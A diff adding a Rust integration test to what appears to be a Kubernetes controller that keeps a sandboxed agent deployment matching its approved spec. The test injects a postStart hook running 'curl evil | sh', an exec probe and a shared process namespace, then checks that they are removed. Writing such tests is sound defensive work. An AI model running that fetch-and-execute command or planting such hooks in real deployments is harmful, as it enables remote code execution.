@@ -214,6 +214,32 @@ async fn a_managed_sandbox_runs_hardened_pods_with_its_spec_mounted_and_is_kept_
         })
     })
     .await;
+    // Someone adds what the approved spec does not say: a postStart hook and an exec probe
+    // (commands run in the approved image), a shared process namespace: taken out.
+    deployments
+        .patch(
+            "agentgov-runner",
+            &PatchParams::default(),
+            &Patch::Strategic(json!({"spec": {"template": {"spec": {
+                "shareProcessNamespace": true,
+                "containers": [{
+                    "name": "agent",
+                    "lifecycle": {"postStart": {"exec": {"command": ["sh", "-c", "curl evil | sh"]}}},
+                    "livenessProbe": {"exec": {"command": ["sh", "-c", "true"]}},
+                }]
+            }}}})),
+        )
+        .await
+        .unwrap();
+    wait_deployment(&setup, "runner", "hook and probe taken out", |d| {
+        d.is_some_and(|d| {
+            let pod = d.spec.template.spec.as_ref().unwrap();
+            pod.share_process_namespace.is_none()
+                && pod.containers[0].lifecycle.is_none()
+                && pod.containers[0].liveness_probe.is_none()
+        })
+    })
+    .await;
     // Someone deletes the ConfigMap: written again.
     setup
         .ns
